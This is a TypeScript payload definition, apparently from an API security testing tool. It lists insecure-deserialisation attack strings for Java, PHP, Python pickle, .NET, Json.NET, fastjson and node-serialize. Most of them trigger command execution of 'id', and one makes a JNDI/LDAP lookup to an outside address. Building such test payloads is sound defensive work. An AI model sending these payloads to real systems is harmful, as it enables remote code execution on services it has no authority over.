import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'deserialisation',
  title: 'serialised objects of a runtime in the place of values',
  owasp: ['API8:2023'],
  inputs: ['text', 'json'],
  values: [
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvckk=',
    'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
    'gASVKgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=',
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.9/#","autoCommit":true}',
    '_$$ND_FUNC$$_function(){require("child_process").exec("id")}()',
    'a:1:{i:0;O:4:"Evil":1:{s:3:"cmd";s:2:"id";}}',
  ],
})
